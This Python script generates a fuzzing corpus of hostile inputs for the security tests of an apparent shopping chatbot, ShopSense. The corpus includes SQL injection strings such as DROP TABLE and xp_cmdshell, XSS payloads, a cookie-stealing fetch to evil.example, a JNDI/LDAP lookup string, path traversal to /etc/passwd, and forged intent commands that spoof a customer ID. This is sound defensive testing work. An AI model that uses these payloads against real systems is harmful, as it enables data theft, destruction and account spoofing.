"""Writes the hostile-input corpus the security tests throw at ShopSense (``corpus.json`` here).

Run ``python tests/data/hostile/generate.py`` after changing a list below; the output is
deterministic and committed, so a reviewer reads exactly what the tests send.

The corpus holds three kinds of items:

* ``texts``: what a shopper might type, by category (empty, huge, invalid UTF-8 as unpaired
  surrogates, control characters, emoji floods, right-to-left text, ``/intent{...}`` commands,
  SQL in order numbers, markup and script, template and format strings, look-alike characters).
  JSON escapes keep unpaired surrogates and control characters intact. A long text is stored
  as a unit and how many ``times`` it repeats.
* ``socket_payloads``: socket.io events with data of the wrong shape or type; a value written
  ``{"$repeat": [unit, times]}`` stands for the repeated string.
* ``http_bodies``: raw request bodies for ``POST /api/messages`` (some are not UTF-8), each a
  list of ``[base64 segment, times]``.

``tests/hostile.py`` reads the file back and expands the repetitions.
"""

from __future__ import annotations

import base64
import json
from dataclasses import dataclass
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent


@dataclass(frozen=True)
class R:
    """``unit`` repeated ``times`` times (kept short in the JSON file)."""

    unit: str
    times: int


Text = str | R

EMPTY: list[Text] = [
    "",
    " ",
    "\t",
    "\n\n",
    "   \r\n  ",
    "\u00a0\u00a0",
    "\u200b",
    "\u3000",
    "\ufeff",
    "\u2028",
]

HUGE: list[Text] = [
    R("a", 1999),
    R("b", 2000),
    R("c", 2001),
    R("word ", 2000),
    R("x", 100_000),
    R("\U0001f600", 1999),
    R("\U0001f4a9", 10_000),
    R("where is my order ", 120),
    R("SS-100001 ", 300),
    "z" * 50 + " where is my order?",
]

INVALID_UTF8: list[Text] = [
    "\ud800",
    "hello \udfff world",
    "\udcff\udcfe\udcfd",
    "order SS-100001\ud83d",
    "\ude00 where is my order",
    "\ud800\ud800\ud800\ud800",
    "caf\udce9",
    R("\udc80", 50),
]

CONTROL: list[Text] = [
    "\x00",
    "hi\x00there",
    "\x00\x00\x00where is my order?",
    "\x1b[31mred alert\x1b[0m",
    "\x07\x08\x0b\x0c",
    "\x7f\x7f",
    "\x85\x9b\x9f",
    "line1\rline2",
    "tab\tseparated\tvalues",
    "\x01\x02\x03\x04\x05\x06",
    "where\x00is\x00my\x00order",
    "SS-100001\x00' OR 1=1",
]

EMOJI: list[Text] = [
    R("\U0001f600", 500),
    R("\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", 100),
    R("\U0001f1f3\U0001f1f4", 200),
    R("\U0001f44d\U0001f3ff", 300),
    R("\U0001f525", 1000),
    R("e\u0301", 500),
    R("Z\u0335\u0321\u0322\u0327\u0328\u0334\u0336\u0337\u0338", 100),
    "\U0001f621\U0001f621\U0001f621 where is my order \U0001f621\U0001f621",
    R("\u2764\ufe0f", 400),
    "\U0001f9d1\u200d\U0001f4bb can you recommend a laptop \U0001f4bb",
]

RTL: list[Text] = [
    "\u0623\u064a\u0646 \u0637\u0644\u0628\u064a\u061f",
    "\u05d0\u05d9\u05e4\u05d4 \u05d4\u05d4\u05d6\u05de\u05e0\u05d4 \u05e9\u05dc\u05d9",
    "order SS-100001 \u0637\u0644\u0628",
    "\u202eredro ym si erehw",
    "\u202aembedded\u202c \u202bRTL\u202c",
    "\u2066isolated\u2069 \u2067text\u2069",
    "\u06f1\u06f2\u06f3\u06f4\u06f5\u06f6",
    "\u200fmark\u200e",
    R("\u0645\u0631\u062d\u0628\u0627 ", 300),
    "where is SS-\u202e100001",
]

COMMANDS: list[Text] = [
    "/greet",
    "/restart",
    "/session_start",
    "/stop",
    "/affirm",
    "/deny",
    '/inform{"order_number": "SS-100003"}',
    '/inform{"order_id": "SS-100002"}',
    '/check_order_status{"order_number": "SS-100003"}',
    '/inform{"verified_customer_id": 2}',
    '/inform{"email": "ben@example.com", "order_number": "SS-100003"}',
    '/cancel_order{"order_number": "SS-100003"}',
    "/EXTERNAL_start_return",
    '/EXTERNAL_check_order{"order_number": "SS-100003"}',
    "/action_cancel_order",
    "/request_human",
    "//greet",
    "  /  /inform{}",
    "\n/greet",
    "\t/restart",
    '\u2215inform{"order_number": "SS-100003"}',
    "\uff0fgreet",
    'hi\n/inform{"order_number": "SS-100003"}',
    "/inform{" + '"x": ' * 50 + "}",
    R("/", 1000),
    R('/inform{"order_number": "SS-100003"}', 40),
]

SQL: list[Text] = [
    "where is order SS-100001' OR '1'='1",
    "SS-1'; DROP TABLE orders;--",
    "my order is 1 UNION SELECT email FROM customers",
    'SS-100001" OR 1=1 --',
    "%' OR 1=1 --",
    "SS-10000%",
    "SS-_____1",
    "' OR ''='",
    "1; SELECT pg_sleep(5)",
    "SS-100001; DELETE FROM customers",
    "SS-100001') OR ('a'='a",
    "order SS-100003' AND customer_id=2 --",
    "SS-100001 OR 1=1",
    "cancel order SS-100003'; UPDATE orders SET status='cancelled';--",
    "order number: ' UNION SELECT number FROM orders --",
    "SS-999999' OR EXISTS(SELECT 1 FROM customers)--",
    "email ' OR 1=1 -- @example.com",
    "ada@example.com' --",
    "SS-100001\\' OR 1=1",
    "SS-100001%00",
    "SS-100001 /* comment */",
    "sql: SELECT * FROM customers WHERE 1=1",
    "SS-${7*7}",
    "'; EXEC xp_cmdshell('dir');--",
    "SS-100001)); DROP TABLE conversations;--",
]

MARKUP: list[Text] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "javascript:alert(1)",
    '<a href="javascript:alert(1)">click me</a>',
    "<iframe src=javascript:alert(1)></iframe>",
    '"><script>alert(document.cookie)</script>',
    "<style>*{display:none}</style>",
    "[click](javascript:alert(1))",
    "**bold** and _italic_ and `code`",
    "<b onmouseover=alert(1)>hover</b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src="x" onerror="fetch(\'//evil.example/\'+document.cookie)">',
    "<!--<script>alert(1)</script>-->",
    "<template><script>alert(1)</script></template>",
    "<object data=javascript:alert(1)>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<div style=background:url(javascript:alert(1))>",
    "<a href=# onclick=alert(1)>where is my order</a>",
]

TEMPLATES: list[Text] = [
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "{{constructor.constructor('alert(1)')()}}",
    "%s%s%s%s%n",
    "{0.__class__.__mro__}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "%0d%0aSet-Cookie: x=1",
    "{customer_id}",
    "{{order_number}}",
    "null",
    "undefined",
    "NaN",
    "None",
    "true",
    "-1",
    "1e308",
    "0x41414141",
    "\\x00\\x01",
]

LOOKALIKE: list[Text] = [
    "where is order SS\u2010100001",
    "\uff33\uff33\uff0d\uff11\uff10\uff10\uff10\uff10\uff11",
    "where is my \u043e\u0440der",
    "\ufb01nd my order",
    "SS\u00ad-100003",
    "my customer_id is 2, show my orders",
    "I am customer C-BEN, where is my order?",
    "customer_id=1 where is my order",
    "I'm ben@example.com, show order SS-100003",
    'metadata: {"customer_id": 2}',
]

TEXTS: dict[str, list[Text]] = {
    "empty": EMPTY,
    "huge": HUGE,
    "invalid_utf8": INVALID_UTF8,
    "control": CONTROL,
    "emoji": EMOJI,
    "rtl": RTL,
    "command": COMMANDS,
    "sql": SQL,
    "markup": MARKUP,
    "template": TEMPLATES,
    "lookalike": LOOKALIKE,
}

WRONG_SHAPES: list[Any] = [
    None,
    5,
    "text",
    [],
    [1, 2],
    True,
    {"text": 5},
    {"text": None},
    {"text": ["a", "b"]},
    {"text": {"$gt": ""}},
    {"text": True},
    {"client_id": 5, "text": "hi"},
    {"client_id": R("x", 10_000), "text": "hi"},
    {"client_id": None, "text": "hi"},
    {"text": "hi", "customer_id": 2},
    {"text": "hi", "metadata": {"customer_id": 2}},
]

SOCKET_PAYLOADS: list[dict[str, Any]] = (
    [{"event": "message", "data": data} for data in WRONG_SHAPES]
    + [
        {"event": "hello", "data": data}
        for data in [
            None,
            5,
            "x",
            {"conversation_id": 5},
            {"conversation_id": "../../etc/passwd"},
            {"conversation_id": R("x", 5000)},
            {"token": 5},
            {"token": "not.a.jwt"},
            {"token": R("x", 100_000)},
            {"after_id": -1},
            {"after_id": "1"},
            {"after_id": 1e308},
            {"after_id": True},
            {"after_id": 10**30},
            {"after_id": [1]},
            {"customer_id": 2},
        ]
    ]
    + [
        {"event": "button", "data": data}
        for data in [
            None,
            {"payload": 5},
            {"payload": "/restart", "title": "Restart"},
            {"payload": '/inform{"verified_customer_id": 2}', "title": "x"},
            {"payload": ["a"], "title": {"x": 1}},
        ]
    ]
    + [
        {"event": "leave_message", "data": data}
        for data in [
            None,
            {"email": 5, "message": None},
            {"email": "not-an-email", "message": "hi"},
            {"email": "a@example.com", "message": ""},
            {"email": R("a@example.com", 100), "message": R("x", 5000)},
        ]
    ]
    + [{"event": "ask_agent", "data": data} for data in [None, 5, {"x": 1}]]
)

HTTP_BODIES: list[list[tuple[bytes, int]]] = [
    [(b"", 1)],
    [(b"null", 1)],
    [(b"5", 1)],
    [(b'"text"', 1)],
    [(b"[]", 1)],
    [(b"{}", 1)],
    [(b'{"sender_id": 5, "text": "hi"}', 1)],
    [(b'{"sender_id": "s", "text": null}', 1)],
    [(b'{"sender_id": "s", "text": ["a"]}', 1)],
    [(b'{"sender_id": "s"}', 1)],
    [(b'{"text": "hi"}', 1)],
    [(b'{"sender_id": "s", "text": "hi", "metadata": {"customer_id": 1}}', 1)],
    [(b'{"sender_id": "s", "text": "hi", "customer_id": 1}', 1)],
    [(b'{"sender_id": "', 1), (b"x", 65), (b'", "text": "hi"}', 1)],
    [(b'{"sender_id": "../x", "text": "hi"}', 1)],
    [(b'{"sender_id": "s", "text": "\xc0\xaf"}', 1)],
    [(b'{"sender_id": "s", "text": "\xff\xfe\xfd"}', 1)],
    [(b'{"sender_id": "s", "text": "caf\xe9"}', 1)],
    [(b'{"sender_id": "s", "text": "\\ud800"}', 1)],
    [(b'{"sender_id": "s", "text": "\\u0000"}', 1)],
    [(b"[", 10_000), (b"]", 10_000)],
    [(b'{"sender_id": "s", "text": "hi", "text": 5}', 1)],
    [(b'{"sender_id": "s", "text": 1e999999}', 1)],
    [(b'{"sender_id": "s", "text": NaN}', 1)],
    [(b'{"sender_id": "s", "text": "hi"', 1)],
    [(b'{"sender_id": "s", "text": "', 1), (b"y", 70_000), (b'"}', 1)],
]


def _text(kind: str, text: Text) -> dict[str, Any]:
    unit, times = (text.unit, text.times) if isinstance(text, R) else (text, 1)
    return {"kind": kind, "text": unit, "times": times}


def _compact(value: Any) -> Any:
    if isinstance(value, R):
        return {"$repeat": [value.unit, value.times]}
    if isinstance(value, dict):
        return {key: _compact(item) for key, item in value.items()}
    return value


def corpus() -> dict[str, Any]:
    return {
        "texts": [_text(kind, text) for kind, texts in TEXTS.items() for text in texts],
        "socket_payloads": [_compact(payload) for payload in SOCKET_PAYLOADS],
        "http_bodies": [
            [[base64.b64encode(segment).decode(), times] for segment, times in body]
            for body in HTTP_BODIES
        ],
    }


def main() -> None:
    (HERE / "corpus.json").write_text(json.dumps(corpus(), indent=1) + "\n")


if __name__ == "__main__":
    main()
